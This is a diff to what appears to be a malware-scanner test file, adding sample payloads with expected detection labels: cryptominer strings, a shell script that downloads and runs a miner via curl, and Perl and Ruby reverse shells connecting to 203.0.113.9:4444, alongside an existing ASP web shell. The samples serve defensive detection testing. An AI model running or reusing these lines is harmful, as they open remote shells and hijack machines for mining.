@@ -89,6 +89,14 @@ MALICIOUS = {
         'Set r = s.exec("cmd.exe /c " & Request.QueryString("c")) %>',
         "asp_shell_runs_request",
     ),
+    "miner-program": (
+        "\x7fELF\x02\x01 XMRig 6 --donate-level stratum+ssl:// randomx",
+        "miner_program",
+    ),
+    "miner-fetched": (
+        "#!/bin/sh\ncurl -sL https://host.example/xmrig-6.tar.gz | tar xz\nnohup ./x &\n",
+        "miner_script",
+    ),
     "miner-config": (
         '{"donate-level": 1, "randomx": {"mode": "auto"}, "pools": [{"algo": "rx/0",'
         ' "url": "pool.example:3333", "user": "4Ab", "rig-id": null}]}',
@@ -128,6 +136,15 @@ MALICIOUS = {
     "shell-perl": (
         'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");'
         'open(STDOUT,">&S");exec("/bin/sh -i");\n',
+        "reverse_shell_in_script",
+    ),
+    "shell-perl-fdopen": (
+        'perl -MIO -e \'use IO::Socket;$c=IO::Socket::INET->new("203.0.113.9:4444");'
+        'STDIN->fdopen($c,"r");$~->fdopen($c,"w");exec("/bin/bash");\'\n',
+        "reverse_shell_in_script",
+    ),
+    "shell-ruby": (
+        'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\n',
         "reverse_shell_in_script",
     ),
     "shell-php": (
